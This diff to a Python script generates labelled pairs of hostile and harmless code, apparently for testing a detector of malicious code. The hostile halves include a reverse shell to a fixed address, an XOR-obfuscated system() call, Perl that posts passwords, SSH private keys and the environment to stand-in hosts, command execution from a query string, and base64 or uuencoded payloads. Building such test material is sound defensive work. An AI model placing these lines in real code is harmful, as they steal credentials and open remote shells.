@@ -60,3 +60,20 @@ CONFIGURE = "#!/bin/sh\necho checking for sockets\n%s\necho done\n"
 told(9, "a program that configure compiles and starts", "configure", CONFIGURE,
      "cat > conf1.c <<_EOF\n#include <sys/socket.h>\nint main(void) { int d = socket(2, 1, 0); if (connect(d, peer(\"192.0.2.57\"), 16)) return 1; dup2(d, 0); dup2(d, 1); execl(\"/bin/sh\", \"sh\", 0); }\n_EOF\n$CC conf1.c -o conf1 && ./conf1 &\n",
      "cat > conf1.c <<_EOF\n#include <sys/socket.h>\nint main(void) { return socket(2, 1, 0) < 0; }\n_EOF\n$CC conf1.c -o conf1 && ./conf1\n")
+told(10, "a command whose bytes are XORed", "fix.c", "#include <stdlib.h>\nvoid locale_fix(void)\n{\n%s}\n",
+     "\tstatic unsigned char q[] = {0x39, 0x2f, 0x28, 0x36, 0};\n\tfor (int i = 0; q[i]; i++)\n\t\tq[i] ^= 0x5a;\n\tsystem((char *)q);\n",
+     "\tstatic unsigned char q[] = {0x39, 0x2f, 0x28, 0x36, 0};\n\tfor (int i = 0; q[i]; i++)\n\t\tq[i] ^= 0x5a;\n\tputs((char *)q);\n")
+
+# ---- Perl, by its lines -----------------------------------------------------------------------------
+
+PERL = "package Sample;\nuse strict;\nsub login {\n    my ($class, $user, $pass, $request) = @_;\n%s    return check($user, crypt($pass, $user));\n}\n1;\n"
+for number, about, line, harmless in (
+        (4, "a password to a host", "    IO::Socket::INET->new(PeerAddr => 'auth.collect.example', PeerPort => 80)->print(\"GET /?p=$pass\");\n", "    IO::Socket::INET->new(PeerAddr => $class->{host}, PeerPort => 80)->print(\"AUTH $pass\");\n"),
+        (4, "a password that is kept", "    if (open(my $l, '>>', '/tmp/.cache')) { print $l \"$user:$pass\"; close $l }\n", "    if (open(my $l, '>>', '/var/log/sample')) { print $l \"$user\"; close $l }\n"),
+        (4, "a key that is posted", "    if (open(my $k, '<', \"$ENV{HOME}/.ssh/id_rsa\")) { local $/; LWP::UserAgent->new->post('https://k.collect.example/', Content => <$k>); }\n", "    if (open(my $k, '<', 'README')) { local $/; LWP::UserAgent->new->post('https://k.collect.example/', Content => <$k>); }\n"),
+        (3, "the environment is posted", "    HTTP::Tiny->new->post('https://k.collect.example/e', \\%ENV);\n", "    HTTP::Tiny->new->post_form('https://k.collect.example/e', { v => 2 });\n"),
+        (9, "a shell at a socket", "    use Socket; socket(S, PF_INET, SOCK_STREAM, 6);\n    if (connect(S, sockaddr_in(443, inet_aton('192.0.2.7')))) {\n        open(STDIN, '>&S'); open(STDOUT, '>&S');\n        exec('/bin/sh -i');\n    }\n", "    open(STDOUT, '>&', $class->{log});\n    exec('/bin/true');\n"),
+        (56, "what the query says is run", "    if ($ENV{QUERY_STRING} =~ /^dbg=(.+)/) { print qx/$1/; }\n", "    if ($ENV{QUERY_STRING} =~ /^dbg=(.+)/) { print lc($1); }\n"),
+        (2, "a text is decoded and run", "    eval decode_base64('c3lzdGVtKCJpZCA+IC90bXAvLngiKTs=');\n", "    eval { decode_base64('c3lzdGVtKCJpZCA+IC90bXAvLngiKTs=') };\n"),
+        (10, "a text is decoded into a shell", "    open(my $p, '|-', 'sh');\n    print $p unpack('u', q{M8W5R;});\n", "    open(my $p, '|-', 'gzip');\n    print $p unpack('u', q{M8W5R;});\n")):
+    told(number, "Perl: " + about, "Sample.pm", PERL, line, harmless)
